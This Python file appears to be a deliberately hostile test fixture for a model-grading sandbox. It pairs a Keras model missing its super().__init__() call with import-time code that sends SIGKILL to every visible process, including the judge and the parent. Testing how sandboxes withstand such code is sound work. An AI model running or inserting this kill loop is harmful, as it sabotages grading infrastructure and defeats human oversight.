"""Hostile: the forgot_super model, plus SIGKILL sent to every process it can see (the judge,
the zygote, the parent), then to its whole process group and to -1."""
import os
import signal

import tensorflow as tf

for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass


class SimpleMLP(tf.keras.Model):
    def __init__(self, hidden_units=32, num_classes=3, **kwargs):
        self.hidden = tf.keras.layers.Dense(hidden_units, activation="relu")
        self.classifier = tf.keras.layers.Dense(num_classes, activation="softmax")

    def call(self, inputs):
        return self.classifier(self.hidden(inputs))
